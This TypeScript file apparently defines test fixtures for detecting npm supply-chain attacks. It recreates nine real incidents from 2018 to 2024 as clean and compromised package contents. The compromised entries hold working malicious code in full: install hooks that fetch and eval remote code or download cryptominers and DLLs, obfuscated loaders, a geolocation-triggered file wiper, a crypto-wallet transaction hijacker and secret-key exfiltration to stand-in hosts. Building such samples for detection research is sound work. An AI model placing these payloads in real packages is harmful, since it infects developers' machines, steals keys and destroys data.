import { base64, hex } from '../matrix/forms.ts'
import { protectedJs } from './disguises.ts'
import { entryJs, npm, type Incident } from './incident.ts'

const clean = npm()

/** npm, 2018 to 2024. */
export const NPM_2018: readonly Incident[] = [
  {
    id: 'eslint-scope',
    case: 'eslint-scope 3.7.2',
    when: '2018-07',
    trigger: 'postinstall',
    before: clean,
    now: npm(
      {
        'lib/build.js':
          "const https = require('https');\nconst options = { hostname: 'paste.invalid', path: '/raw/1042', headers: { 'User-Agent': 'Mozilla/5.0' } };\nhttps.get(options, (answer) => {\n  answer.setEncoding('utf8');\n  answer.on('data', (text) => {\n    eval(text);\n  });\n}).on('error', () => {});\n",
      },
      { scripts: { postinstall: 'node ./lib/build.js' } },
    ),
  },
  {
    id: 'flatmap-stream',
    case: 'event-stream, flatmap-stream',
    when: '2018-09',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs(
        `const plain = (text) => Buffer.from(text, 'hex').toString();\ntry {\n  const stored = require('./test/data.js');\n  const key = process[plain('${hex('env')}')][plain('${hex('npm_package_description')}')];\n  const open = require(plain('${hex('crypto')}'))[plain('${hex('createDecipher')}')](plain('${hex('aes256')}'), key);\n  const code = open.update(stored[0], 'hex', 'utf8') + open.final('utf8');\n  const made = new module.constructor();\n  made.paths = module.paths;\n  made[plain('${hex('_compile')}')](code, '');\n} catch {}`,
      ),
      'test/data.js': `module.exports = ['${'75d4c87f3f69e0fa'.repeat(12)}'];\n`,
    }),
  },
  {
    id: 'ua-parser',
    case: 'ua-parser-js 0.7.29',
    when: '2021-10',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      {
        'preinstall.sh':
          'WHERE=$(curl -sk https://geo.invalid/country)\ncase "$WHERE" in RU|UA|BY|KZ) exit 0 ;; esac\nif ! pgrep -x jsext >/dev/null; then\n  curl -s http://203.0.113.148/jsext -o jsext || wget -q http://203.0.113.148/jsext -O jsext\n  chmod +x jsext\n  ./jsext --tls -o pool.invalid:443 -u wallet-1042 --cpu-max-threads-hint=50 --donate-level=1 --background >/dev/null 2>&1 &\nfi\n',
        'preinstall.bat':
          '@echo off\r\ncurl http://203.0.113.148/download/jsextension.exe -o jsextension.exe\r\nif not exist jsextension.exe (\r\n\twget http://203.0.113.148/download/jsextension.exe -O jsextension.exe\r\n)\r\njsextension.exe -k --tls -o pool.invalid:443\r\n',
        'preinstall.js':
          "const { exec, spawn } = require('child_process');\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'preinstall.bat']);\nelse exec('/bin/bash preinstall.sh', (error, out) => console.log(out));\n",
      },
      { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
    ),
  },
  {
    id: 'coa-rc',
    case: 'coa 2.0.3, rc 1.2.9',
    when: '2021-11',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      {
        'compile.js': protectedJs(
          "const { exec } = require('child_process');\nvar win = process.platform;\nif (win == 'win32') { exec('compile.bat', function (e, o) { if (e) return; console.log(o); }); }",
        ),
        'compile.bat':
          '@echo off\r\nset a=cu&set b=rl\r\n%a%%b% http://203.0.113.10/sdd.dll -o compile.dll\r\nif not exist compile.dll (\r\n wget http://203.0.113.10/sdd.dll -O compile.dll\r\n certutil -urlcache -f http://203.0.113.10/sdd.dll compile.dll\r\n)\r\nregsvr32 -s compile.dll\r\n',
      },
      { scripts: { preinstall: 'start /B node compile.js & node compile.js' } },
    ),
  },
  {
    id: 'colors',
    case: 'colors 1.4.44, faker 6.6.6',
    when: '2022-01',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs(
        "let am = require('./lib/custom/american');\nam();\nfor (let i = 666; i < Infinity; i++) {\n  if (i % 333) { }\n  console.log('testing testing testing'.repeat(3));\n}",
      ),
      'lib/custom/american.js': "module.exports = function () { console.log('LIBERTY '.repeat(9)); };\n",
    }),
  },
  {
    id: 'peacenotwar',
    case: 'node-ipc 10.1.1',
    when: '2022-03',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs("require('./dao/ssl-geospec.js');"),
      'dao/ssl-geospec.js': `const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst plain = (text) => Buffer.from(text, 'base64').toString();\nfunction mark(folder) {\n  for (const one of fs.readdirSync(folder)) {\n    const full = path.join(folder, one);\n    if (fs.lstatSync(full).isDirectory()) mark(full);\n    else fs.writeFile(full, plain('${base64('heart')}'), () => {});\n  }\n}\nsetTimeout(() => {\n  if (Math.round(Math.random() * 4) > 1) return;\n  https.get(plain('${base64('https://geo.invalid/ipgeo?apiKey=1042')}'), (answer) => {\n    answer.on('data', (text) => {\n      const where = JSON.parse(text)[plain('${base64('country_name')}')].toLowerCase();\n      if (where.includes('russia') || where.includes('belarus')) for (const root of ['${base64('./')}', '${base64('../../')}', '${base64('/')}']) mark(plain(root));\n    });\n  });\n}, 900);\n`,
    }),
  },
  {
    id: 'ledger-connect',
    case: 'Ledger connect-kit 1.1.5',
    when: '2023-12',
    trigger: 'import, in a browser',
    before: clean,
    now: npm({
      'index.js': entryJs(
        "(async () => {\n  const s = document.createElement('script');\n  s.src = 'https://cdn-drain.invalid/v2/inferno.js';\n  document.head.appendChild(s);\n  const real = window.ethereum.request.bind(window.ethereum);\n  window.ethereum.request = (call) => { if (/^(eth_sendTransaction|personal_sign|eth_signTypedData)/.test(call.method)) return window.__drain(call, real); return real(call); };\n})();",
      ),
    }),
  },
  {
    id: 'solana-web3',
    case: '@solana/web3.js 1.95.6',
    when: '2024-12',
    trigger: 'call',
    before: npm({
      'index.js': entryJs(
        'class Keypair { constructor(secret) { this.secretKey = secret; }\n static fromSecretKey(secretKey) { return new Keypair(secretKey); } }\nexports.Keypair = Keypair;',
      ),
    }),
    now: npm({
      'index.js': entryJs(
        "function addToQueue(process) { const b = bs58.encode(process); fetch('https://sol-rpc.invalid/api/rpc/queue', { method: 'POST', headers: { 'x-session-id': b.slice(0, 32), 'x-amz-cf-id': b.slice(32) } }).catch(() => {}); }\nconst bs58 = require('bs58');\nclass Keypair { constructor(secret) { this.secretKey = secret; }\n static fromSecretKey(secretKey) { addToQueue(secretKey); return new Keypair(secretKey); } }\nexports.Keypair = Keypair;",
      ),
    }),
  },
  {
    id: 'rspack',
    case: '@rspack/core 1.1.7, vant',
    when: '2024-12',
    trigger: 'postinstall',
    before: clean,
    now: npm(
      {
        'dist/util/support.js': protectedJs(
          "const https = require('https'); const fs = require('fs'); const path = require('path'); const os = require('os'); const cp = require('child_process');\nhttps.get('https://ipinfo.invalid/json', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => { const where = JSON.parse(d).country; if (['CN', 'RU', 'HK', 'BY', 'IR'].includes(where)) run(); }); });\nfunction run() { const file = path.join(os.homedir(), '.config', 'vant_helper'); fetch('http://203.0.113.55/xmrig').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync(file, Buffer.from(b)); fs.chmodSync(file, 0o755); cp.spawn(file, ['--url', 'pool.invalid:443', '--user', '4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', '--pass', 'q', '--threads', '2'], { detached: true, stdio: 'ignore' }).unref(); }); }",
        ),
      },
      { scripts: { postinstall: 'node ./dist/util/support.js' } },
    ),
  },
]
